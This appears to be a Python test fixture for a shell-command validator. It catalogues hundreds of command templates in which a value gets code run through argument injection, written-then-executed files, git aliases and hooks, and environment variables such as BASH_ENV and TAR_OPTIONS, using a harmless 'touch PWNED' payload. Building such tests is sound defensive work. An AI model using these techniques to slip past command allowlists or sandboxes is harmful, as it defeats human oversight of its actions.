"""Commands that run a value `[v]` if they are let, each with a value that shows it. ⏎ is a line break."""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    """A command, and a value by which it would leave the file PWNED behind."""

    command: str
    value: str = "touch PWNED"


def _attacks(text: str) -> list[Attack]:
    """Lines of a command and, behind ⇐, the value."""
    lines = [line.replace("⏎", "\n").partition(" ⇐ ") for line in text.strip("\n").splitlines()]
    return [Attack(command, value or "touch PWNED") for command, _, value in lines]


# What lies in the folder where they run. `evil` is a program; each other is code for the program of its kind.
FILES = {
    "evil": "#!/bin/sh\n/usr/bin/touch PWNED\n",
    "ls": "#!/bin/sh\n/usr/bin/touch PWNED\n",
    "evil.py": "open('PWNED', 'w')\n",
    "evil.js": "require('fs').writeFileSync('PWNED', '')\n",
    "evil.sed": "1e touch PWNED\n",
    "evil.awk": 'BEGIN { system("touch PWNED") }\n',
    "evil.mk": "all:\n\ttouch PWNED\n",
    "evil.conf": "-K\n",
    "tarlist": "--checkpoint=1\n--checkpoint-action=exec=touch PWNED\nf\n",
    "-exec": "",
    "f": "x\na -exec sh evil ;\n",
    "run.sh": "true\n",
    "pack/package.json": '{"name": "a", "version": "1.0.0", "scripts": {"prepack": "touch ../PWNED"}}',
}

# Options of a program, wherever they stand.
OPTIONS = _attacks(r"""
sed -e s/a/b/ f -e "s/x/[v]/" ⇐ y/;1e touch PWNED⏎#
sed -n /a/p --expression="[v]" f ⇐ 1e touch PWNED
sed -n /a/p --expr="[v]" f ⇐ 1e touch PWNED
sed -n /a/p --exp "[v]" f ⇐ 1e touch PWNED
sed p -f "[v]" f ⇐ evil.sed
sed p -nf "[v]" f ⇐ evil.sed
sed p --file="[v]" f ⇐ evil.sed
sed p --fi="[v]" f ⇐ evil.sed
sed p f -f[v] ⇐ evil.sed
sed -s p f -e[v] ⇐ 1e touch PWNED
sed -ne p -e "[v]" f ⇐ 1e touch PWNED
node -e 'console.log(1)' -r [v] ⇐ ./evil.js
node -e 'console.log(1)' --require [v] ⇐ ./evil.js
node -e 'console.log(1)' --require=[v] ⇐ ./evil.js
node --import "[v]" run.sh ⇐ ./evil.js
node --experimental-loader="[v]" evil.py ⇐ ./evil.js
node -p 1 -e "[v]" ⇐ require('fs').writeFileSync('PWNED','')
node --env-file="[v]" run.js
node --test run.js "[v]" ⇐ ./evil.js
awk 1 f -f [v] ⇐ evil.awk
awk -f [v] f ⇐ evil.awk
gawk -l "[v]" 1 f
gawk -i "[v]" 1 f ⇐ evil.awk
gawk --include="[v]" 1 f ⇐ evil.awk
jq . f.json -f "[v]"
jq -L "[v]" . f.json
tar cf /dev/null f --checkpoint=1 --checkpoint-action="[v]" ⇐ exec=touch PWNED
tar cf /dev/null f --checkpoint=1 --checkpoint-act="[v]" ⇐ exec=touch PWNED
tar cf /dev/null f -I "[v]" ⇐ touch PWNED;cat
tar cf a.tar.gz --use-compress-program="[v]" f ⇐ ./evil
tar cf a.tar.gz --use-compress="[v]" f ⇐ ./evil
tar cfI /dev/null "[v]" f ⇐ ./evil
tar cf /dev/null -T "[v]" ⇐ tarlist
tar cf /dev/null --files-from="[v]" ⇐ tarlist
echo "[v]" | tar cf /dev/null -T - f ⇐ --checkpoint-action=exec=touch PWNED
tar cf /dev/null -F "[v]" -L 1 f ⇐ ./evil
tar cf x:y --rsh-command="[v]" f ⇐ ./evil
sort f --compress-program="[v]" -S 1k
sort --compress-prog="[v]" f
split -l 1 f --filter="[v]"
split f -l 1 --filt="[v]"
find f -name x -exec "[v]" \; ⇐ ./evil
find . -newer f -execdir [v] \; ⇐ ./evil
find f -okdir [v] \;
find . -fprintf [v] x
find f -files0-from [v]
git grep -O"[v]" x ⇐ ./evil
git grep --open-files-in-pager="[v]" x ⇐ ./evil
git grep --open-files="[v]" x ⇐ ./evil
git log --output="[v]" -1
git rebase main -x "[v]"
git rebase --ex="[v]" main
git fetch origin --upload-pack "[v]" ⇐ ./evil
git fetch --upload-pa="[v]" . ⇐ ./evil
git clone . d -u "[v]" ⇐ ./evil
git clone --config="[v]" . d
git push . --exec="[v]" ⇐ ./evil
git push --receive-pack="[v]" . ⇐ ./evil
git push "[v]" main ⇐ ./d
git -C "[v]" diff ⇐ ./d
git --git-dir="[v]" status ⇐ ./d
git commit -m x --gpg-sign="[v]"
git commit --template="[v]"
git diff --ext-diff "[v]"
git archive HEAD --format="[v]"
git difftool --extcmd="[v]" --no-prompt
git bisect run "[v]" ⇐ ./evil
git submodule foreach "[v]"
git filter-branch --tree-filter "[v]" HEAD
git config core.fsmonitor "[v]"; git status ⇐ ./evil
git config --add alias.x "[v]"; git x ⇐ !touch PWNED
git remote add o "[v]"; git push o main ⇐ ./d
rsync -a f "x:y" -e "[v]" ⇐ ./evil
rsync --rsh="[v]" f x:y ⇐ ./evil
rsync --rsync-path="[v]" f x:y
zip a.zip f -T -TT "[v]" ⇐ ./evil #
zip a.zip f -T --unzip-command="[v]" ⇐ ./evil #
curl -K "[v]" ⇐ evil.conf
curl --config="[v]" ⇐ evil.conf
wget -e "[v]" http://127.0.0.1:1/
wget --use-askpass="[v]" http://127.0.0.1:1/ ⇐ ./evil
rg x f --pre "[v]" ⇐ ./evil
rg --hostname-bin="[v]" x ⇐ ./evil
fd x -x "[v]"
fd --exec-batch="[v]" x
install -s --strip-program="[v]" evil out ⇐ ./evil
install --strip-prog="[v]" -s evil out ⇐ ./evil
pytest -p "[v]" ⇐ evil
pytest -c "[v]"
pytest --rootdir="[v]"
pytest -o "[v]"
pytest "[v]" ⇐ ./evil.py
pytest tests/x "[v]" ⇐ ./evil.py
npm test --script-shell="[v]" ⇐ ./evil
npm test -- --config="[v]" ⇐ ./evil.js
npm test -- --globalSetup "[v]" ⇐ ./evil.js
npm --prefix "[v]" test ⇐ pack
npm run "[v]"
docker run --entrypoint "[v]" img
docker run --rm -e "BASH_ENV=[v]" img ls
docker build -f "[v]" .
eslint --config "[v]" x ⇐ ./evil.js
eslint x --rulesdir "[v]"
prettier --plugin="[v]" x ⇐ ./evil.js
jest --config "[v]" ⇐ ./evil.js
mocha --require "[v]" ⇐ ./evil.js
mypy --config-file="[v]" x
black --config "[v]" x
tsc --build "[v]"
mvn test -Dexec.executable="[v]"
mvn -f "[v]" test
go vet -vettool="[v]" ⇐ ./evil
go test -exec "[v]" ./... ⇐ ./evil
go test -toolexec="[v]" ./... ⇐ ./evil
go build -ldflags "-X main.v=[v]"
cargo build --config "[v]"
cargo test --config "[v]"
cargo test --manifest-path "[v]"
gh pr list --web "[v]"
gh alias set x "[v]"
gh extension install "[v]"
""")

# Programs that are not the first word, that are not known, or that take a command.
PREFIXES = _attacks(r"""
/usr/bin/env PATH="[v]" ls ⇐ .
timeout 5 env PATH="[v]" ls ⇐ .
nice env BASH_ENV="[v]" bash run.sh ⇐ ./evil
command env BASH_ENV="[v]" bash run.sh ⇐ ./evil
env -i env "BASH_ENV=[v]" bash run.sh ⇐ ./evil
nohup timeout 5 env BASH_ENV=[v] bash run.sh ⇐ ./evil
env A=b BASH_ENV=[v] bash run.sh ⇐ ./evil
echo x | xargs env BASH_ENV=[v] bash run.sh ⇐ ./evil
find f -exec env BASH_ENV=[v] bash run.sh \; ⇐ ./evil
sudo -n PATH="[v]" ls ⇐ .
exec env PATH=[v] ls ⇐ .
time env PATH=[v] ls ⇐ .
/usr/bin/timeout 5 /usr/bin/env -u X PATH=[v] ls ⇐ .
jobs -x bash -c "[v]"
strace -o "[v]" true ⇐ |touch PWNED
strace bash -c "[v]"
ltrace -o "[v]" true
nm --plugin="[v]" x.o
ar --plugin "[v]" t x.a
objdump --plugin="[v]" x.o
ld --plugin "[v]" x.o
gdb -batch -ex "[v]" ⇐ shell touch PWNED
script -c "[v]" /dev/null
chrt -b 0 sh -c "[v]"
taskset 1 sh -c "[v]"
setarch -R sh -c "[v]"
unshare -r sh -c "[v]"
flock f -c "[v]"
watch -g "[v]"
perl -e "[v]" ⇐ system 'touch PWNED'
perl -ne 1 "[v]" ⇐ touch PWNED|
./bin/perl -e "[v]" ⇐ system 'touch PWNED'
usr/bin/perl -e "[v]" ⇐ system 'touch PWNED'
cd /usr/bin && ./perl -e "[v]" ⇐ system 'touch PWNED'
./gradlew -I "[v]" test
perl run.pl "[v]" ⇐ touch PWNED|
ruby -e "[v]" ⇐ `touch PWNED`
vim -es -c "[v]" -c q! ⇐ !touch PWNED
ed -s "[v]" ⇐ !touch PWNED
man -P "[v]" ls ⇐ ./evil
less "[v]"
dc -e "[v]" ⇐ !touch PWNED
m4 "[v]"
make -f "[v]" ⇐ evil.mk
make SHELL="[v]"
cmake -P "[v]"
sqlite3 x.db "[v]" ⇐ .shell touch PWNED
psql -c "[v]"
ssh -oProxyCommand="[v]" localhost
scp "[v]" x
socat "[v]" - ⇐ EXEC:./evil
openssl engine "[v]"
logrotate "[v]"
ffmpeg -i "[v]" x
convert "[v]" x.png
busybox sh -c "[v]"
run-parts "[v]"
start-stop-daemon -S -x "[v]"
dpkg-deb --info "[v]"
pip install "[v]" ⇐ ./pack
pip download "[v]" ⇐ ./pack
uv pip install "[v]"
uv run --with "[v]" pytest
uv run "[v]" ⇐ evil.py
npx --package="[v]" x
npx "[v]"
npx -c "[v]"
npm pack --prefer-offline "[v]" ⇐ ./pack
npm isntall "[v]" ⇐ ./pack
npm i "[v]" ⇐ ./pack
npm exec -c "[v]"
npm link "[v]" ⇐ ./pack
yarn global add "[v]"
yarn create "[v]"
yarn node "[v]"
pnpm dlx "[v]"
bun run "[v]"
deno run "[v]"
composer create-project "[v]"
gem install "[v]"
bundle exec "[v]"
docker run --rm alpine "[v]"
docker run --rm alpine sh -c "[v]"
docker exec box "[v]"
docker compose run app "[v]"
podman run --rm alpine perl -e "[v]"
kubectl exec pod -- "[v]"
python3 -m pickle "[v]" ⇐ e.pkl
python3 -m inspect "[v]" ⇐ evil
python3 -m unittest "[v]" ⇐ evil
python3 -m pdb "[v]" ⇐ evil.py
python3 -m doctest "[v]" ⇐ evil.py
python3 -m cProfile "[v]" ⇐ evil.py
python3 -m zipapp "[v]" -m evil
python3 -m http.server -d "[v]"
python3 -m pydoc "[v]" ⇐ evil
python3 -mpickle "[v]" ⇐ e.pkl
python3 -Im timeit "[v]" ⇐ open('PWNED','w')
python3 -m "[v]" ⇐ evil
python3 -W "[v]" run.py
python3 -c 'import sys; sys.path.insert(0, "."); __import__(sys.argv[1])' "[v]" ⇐ evil
python3 -c 'import asyncio,sys; asyncio.run(asyncio.create_subprocess_shell(sys.argv[1]))' "[v]"
python3 -c 'import sys; from os import system as s; s(sys.argv[1])' "[v]"
python3 -c 'import sys, shutil; shutil.copy(sys.argv[1], "run.sh")' "[v]"; bash run.sh ⇐ evil
python3 -c 'import webbrowser, sys; webbrowser.get(sys.argv[1] + " %s").open("x")' "[v]" ⇐ ./evil
coverage run "[v]" ⇐ evil.py
tox -e "[v]"
nox -s "[v]"
""")

# A file, a variable or git keeps the value, and something runs it later.
KEPT = _attacks(r"""
echo "[v]" | uniq - run.sh; bash run.sh
echo "[v]" | iconv -f utf-8 -t utf-8 -o run.sh; bash run.sh
echo "[v]" | iconv -f utf-8 -t utf-8 --output=run.sh; bash run.sh
echo "[v]" | shuf -o run.sh; bash run.sh
echo "[v]" | shuf --output=run.sh; bash run.sh
echo "[v]" | sort --output=run.sh; bash run.sh
echo "[v]" | sort -urun.sh -o run.sh; bash run.sh
echo "[v]" > notes.txt; zstd -q notes.txt -o a.zst; zstd -q -d a.zst -o run.sh; bash run.sh
echo "[v]" > notes.txt; gzip -c notes.txt > a.gz; gunzip -c a.gz > run.sh; bash run.sh
echo "[v]" > notes.txt; lz4 -q notes.txt a.lz4; lz4 -q -d -f a.lz4 run.sh; bash run.sh
echo "[v]" > notes.txt; xxd notes.txt a.hex; xxd -r a.hex run.sh; bash run.sh
echo "[v]" > notes.txt; xz -k notes.txt; xz -dc notes.txt.xz > run.sh; bash run.sh
echo "[v]" > notes.txt; base64 notes.txt > a.txt; base64 -d a.txt > run.sh; bash run.sh
echo "[v]" > notes.txt; tar cf a.tar notes.txt; tar xOf a.tar > run.sh; bash run.sh
echo "[v]" > notes.txt; tar cf run.sh notes.txt; bash run.sh
echo "[v]" > notes.txt; zip -q a.zip notes.txt; unzip -p a.zip > run.sh; bash run.sh
echo "[v]" > notes.txt; install -m 755 notes.txt run.sh; bash run.sh
echo "[v]" > notes.txt; ln -f notes.txt run.sh; bash run.sh
echo "[v]" > notes.txt; dd if=notes.txt of=run.sh 2>/dev/null; bash run.sh
echo "[v]" > notes.txt; cat notes.txt | tee run.sh; bash run.sh
echo "[v]" > notes.txt; cat *.txt > run.sh; bash run.sh
echo "[v]" > notes.txt; cat < notes.txt > run.sh; bash run.sh
echo "[v]" > notes.txt; split -l 1 notes.txt x; bash xaa
echo "[v]" > notes.txt; csplit -s notes.txt 1; bash xx00
echo "[v]" > notes.txt; awk '{ print > "run.sh" }' notes.txt; bash run.sh
echo "[v]" > notes.txt; sed -n 'w run.sh' notes.txt; bash run.sh
echo "[v]" > notes.txt; mv notes.txt run.sh; ./run.sh
echo "[v]" > notes.txt; mv notes.txt conftest.py; pytest
echo "[v]" > notes.txt; cp notes.txt Makefile; make
echo "[v]" > notes.txt; cp notes.txt package.json; npm test
echo "[v]" > notes.txt; rev notes.txt | rev > run.sh; bash run.sh
echo "[v]" > notes.txt; git init -q; git add notes.txt; git mv notes.txt run.sh; bash run.sh
echo "[v]" > notes.txt; git add notes.txt; git show :notes.txt > run.sh; bash run.sh
echo "[v]" > notes.txt; git hash-object -w notes.txt; git cat-file -p HEAD > run.sh; bash run.sh
echo "[v]" > notes.txt; find . -name notes.txt | xargs cat > run.sh; bash run.sh
echo "[v]" > notes.txt; grep -rh . notes.txt > run.sh; bash run.sh
echo "[v]" > notes.txt; f=notes.txt; cp "$f" run.sh; bash run.sh
echo "[v]" > notes.txt; cp -t . notes.txt; bash notes.txt
echo "[v]" > test_a.txt; pytest
echo "[v]" > CMakeLists.txt; cmake .
echo "[v]" > requirements.txt; pip install -r requirements.txt
echo "[v]" | tee -a run.sh; bash run.sh
find . -name "[v]" -exec cp {} run.sh \; ; bash run.sh ⇐ evil
find . -name "[v]" -exec sh -c 'cp "$1" run.sh' sh {} \; ; bash run.sh ⇐ evil
echo "[v]" | xargs git checkout -q; bash run.sh
echo "[v]" | xargs -n1 git pull -q origin; bash run.sh
mkdir -p "[v]"; cd "[v]"; pwd > ../run.sh; sh ../run.sh ⇐ ;touch PWNED
mkdir -p "[v]"; cd "[v]"; echo "$PWD" > ../run.sh; sh ../run.sh ⇐ ;touch PWNED
echo "[v]" | dd of=run.sh 2>/dev/null; bash run.sh
echo "[v]" | xxd - run.hex; xxd -r run.hex > run.sh; bash run.sh
echo "[v]" | curl -s -T - -o run.sh file:///dev/stdin; bash run.sh
curl -s -w '%output{run.sh}%{url}' "[v]"; bash run.sh
curl -s --output-dir . -O "[v]"; bash run.sh
git commit -q --allow-empty -m "[v]"; git log -1 --format=%B > run.sh; bash run.sh
git commit -q --allow-empty -m "[v]"; git log -1 --format=%B --output=run.sh; bash run.sh
git commit -q --allow-empty -m "[v]"; git log -1 --format=%B | tee run.sh; bash run.sh
git commit -q --allow-empty -m "[v]"; x=$(git log -1 --format=%B); bash -c "$x"
git commit -q --allow-empty -m "[v]"; git log -1 --format=%B | sh
git commit -q --allow-empty -m "[v]"; git show -s --format=%B > run.sh; sh run.sh
git commit -q --allow-empty -m "[v]"; git format-patch -1 --stdout > run.sh; sh run.sh
git tag -a t -m "[v]"; git tag -n9 --format='%(contents)' > run.sh; sh run.sh
git branch "[v]"; git branch --format='%(refname:short)' > run.sh; sh run.sh ⇐ evil
git stash push -m "[v]"; git stash list > run.sh; sh run.sh
git commit -q --allow-empty -e -m "[v]"
git commit -q --allow-empty -m "[v]"; GIT_EDITOR=sh git commit --amend
GIT_EDITOR=sh git commit -q --allow-empty -m "[v]"
git pull -q "[v]" && bash run.sh ⇐ ./d
git pull -q origin "[v]" && bash run.sh
git checkout -q "[v]" && bash run.sh
git checkout -q "[v]" -- run.sh; bash run.sh
git switch -q "[v]" && ./run.sh
git restore --source "[v]" run.sh; bash run.sh
git restore -s "[v]" .; make
git reset --hard "[v]"; bash run.sh
git merge "[v]"; bash run.sh
git cherry-pick "[v]"; npm test
git rebase "[v]"; pytest
git revert "[v]"; bash run.sh
git stash apply "[v]"; bash run.sh
git worktree add d "[v]"; bash d/run.sh
git clone -q "[v]" d && cd d && make
git clone -q "[v]" d; python3 d/x.py
git archive "[v]" | tar x; bash run.sh
git apply "[v]"; bash run.sh
git am "[v]"; bash run.sh
rsync -a "[v]" ./ ; bash run.sh
gh pr checkout "[v]" && make
gh release download "[v]"; bash run.sh
python3 -m json.tool "[v]" run.py; python3 run.py
python3 -m zipfile -e "[v]" .; bash run.sh
python3 -m tarfile -e "[v]"; bash run.sh
unzip -q "[v]"; bash run.sh
gunzip "[v]"; bash run.sh
wget -q -O run.sh "[v]"; bash run.sh
wget -qi "[v]"; bash run.sh
tee run.sh <<< "[v]"; bash run.sh
printf %s "[v]" > .git/hooks/pre-commit; git commit -m x
printf %s "[v]" > .bashrc; bash -i -c true
printf %s "[v]" > x.mk; make -f x.mk
printf %s "[v]" > .npmrc; npm test
printf %s "[v]" > tox.ini; tox
""")

# A pattern becomes an option, or a text that is found does.
PATTERNS = _attacks(r"""
f="[v]"; find $f -type f ⇐ ?exec sh evil ;
f="[v]"; find . $f ⇐ ?exec sh evil ;
f="[v]"; find . $f ⇐ *exec sh evil ;
f="[v]"; find . $f ⇐ [-]exec sh evil ;
for f in [v]; do find . $f; done ⇐ ?exec sh evil ;
a=([v]); find . ${a[@]} ⇐ ?exec sh evil ;
echo "[v]" | while read -r f; do find . $f; done ⇐ ?exec sh evil ;
find . $(echo "[v]") ⇐ ?exec sh evil ;
set -- [v]; find . $1 ⇐ ?exec sh evil ;
grep -o "[v]" f | xargs find . ⇐ .exec sh evil ;
grep "[v]" f | xargs find . ⇐ a -exec sh evil ;
sed -n 2p f | grep -o "[v]" | xargs find . ⇐ .exec sh evil ;
x=$(grep -o "[v]" f); find . $x ⇐ .exec sh evil ;
find . $(grep -o "[v]" f) ⇐ .exec sh evil ;
git log --grep="[v]" --format=%B | xargs find .
""")

# A text that is code for another program uses a variable that holds the value.
TEXTS = _attacks(r"""
seq 3 | split -l 1 --filter='eval "$title"'
tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='eval "$title"' . ; echo [v]
export y="[v]"; git -c alias.a='!eval "$y"' a
export y="[v]"; git config alias.a '!eval "$y"'; git a
export y="[v]"; git rebase -x 'eval "$y"' HEAD~1
export y="[v]"; GIT_PAGER='eval "$y"' git -p log
export y="[v]"; GIT_EXTERNAL_DIFF='eval "$y"; true' git diff
export y="[v]"; EDITOR='eval "$y"; true' git commit --allow-empty
export y="[v]"; GIT_SSH_COMMAND='eval "$y"' git fetch x:y
export y="[v]"; find . -maxdepth 0 -exec sh -c 'eval "$y"' \;
export y="[v]"; xargs -I{} sh -c 'eval "$y"' <<< x
export y="[v]"; env sh -c 'eval "$y"'
export y="[v]"; perl -e 'system $ENV{y}'
export y="[v]"; ruby -e 'system ENV["y"]'
export y="[v]"; node -e 'require("child_process").execSync(process.env.y)'
export y="[v]"; python3 -c 'import os; os.system(os.environ["y"])'
export y="[v]"; awk 'BEGIN { system(ENVIRON["y"]) }'
export y="[v]"; make -f - <<< 'all: ; eval "$$y"'
export y="[v]"; perl <<'E'⏎system $ENV{y}⏎E
export y="[v]"; echo 'system $ENV{y}' | perl
export y="[v]"; vim -es -c '!eval "$y"' -c q!
export y="[v]"; flock f -c 'eval "$y"'
export y="[v]"; script -qc 'eval "$y"' /dev/null
export y="[v]"; sort --compress-program='sh -c "eval $y"' -S 1k f
export y="[v]"; zip a.zip f -T -TT 'eval "$y" #'
export y="[v]"; rsync -e 'sh -c "eval $y"' f x:y
export y="[v]"; sudo -n sh -c 'eval "$y"'
export y="[v]"; strace -o '|eval "$y"' true
export y="[v]"; printenv y | perl -ne 'system $_'
y="[v]"; PS4='+${y@P} '; set -x; true ⇐ $(touch PWNED)
y="[v]"; PS4='$(eval "$y")'; set -x; true
y="[v]"; PROMPT_COMMAND='eval "$y"'
y="[v]"; trap 'eval "$y"' EXIT
y="[v]"; trap 'bash -c "$y"' DEBUG; true
y="[v]" bash -c 'eval "$y"'
watch -g 'eval "$title"'
perl -e 'system $ENV{title}'
printenv title | bash
""")

# A variable that tells a program, or bash, what to do.
SETTINGS = _attacks(r"""
AWS_CONFIG_FILE="[v]" aws s3 ls
OPENSSL_CONF="[v]" python3 fetch.py
RUSTC_WRAPPER="[v]" cargo build
KUBECONFIG="[v]" kubectl get pods
GOFLAGS="[v]" go build
CARGO_HOME="[v]" cargo test
DOCKER_CONFIG="[v]" docker ps
NPM_CONFIG_USERCONFIG="[v]" npm test
npm_config_script_shell="[v]" npm test
http_proxy="[v]" curl http://127.0.0.1:1/
GEM_HOME="[v]" ruby x.rb
PYTHONUSERBASE="[v]" python3 run.py
VIRTUAL_ENV="[v]" uv run pytest
GCONV_PATH="[v]" iconv -l
TERMINFO="[v]" clear
NLSPATH="[v]" ls
XDG_CONFIG_HOME="[v]" git status
HOME="[v]" git status
CURL_HOME="[v]" curl http://127.0.0.1:1/
WGETRC="[v]" wget -q http://127.0.0.1:1/
RIPGREP_CONFIG_PATH="[v]" rg x
TAR_OPTIONS="[v]" tar cf /dev/null f ⇐ --checkpoint=1 --checkpoint-action=exec=./evil
ESLINT_USE_FLAT_CONFIG="[v]" eslint x
JAVA_TOOL_OPTIONS="[v]" java -jar x.jar
ANSIBLE_CONFIG="[v]" ansible all
TF_CLI_CONFIG_FILE="[v]" terraform plan
MYSQL_HOME="[v]" mysql
PSQLRC="[v]" psql
GH_CONFIG_DIR="[v]" gh pr list
GH_BROWSER="[v]" gh pr list
CC="[v]" cargo build
MAKEFILES="[v]" make ⇐ evil.mk
FOO_BAR="[v]" ./run
export SOME_SETTING="[v]"; ./run
export AWS_CONFIG_FILE="[v]" && aws s3 ls
declare -x KUBECONFIG="[v]"; kubectl get pods
KUBECONFIG="[v]"; export KUBECONFIG; kubectl get pods
read -r KUBECONFIG <<< "[v]"; export KUBECONFIG; kubectl get pods
for KUBECONFIG in "[v]"; do kubectl get pods; done
printf -v KUBECONFIG %s "[v]"; kubectl get pods
KUBECONFIG="[v]"; kubectl get pods
env KUBECONFIG="[v]" kubectl get pods
sudo -n KUBECONFIG="[v]" kubectl get pods
nice env OPENSSL_CONF=[v] python3 fetch.py
""")

ATTACKS = [*OPTIONS, *PREFIXES, *KEPT, *PATTERNS, *TEXTS, *SETTINGS]
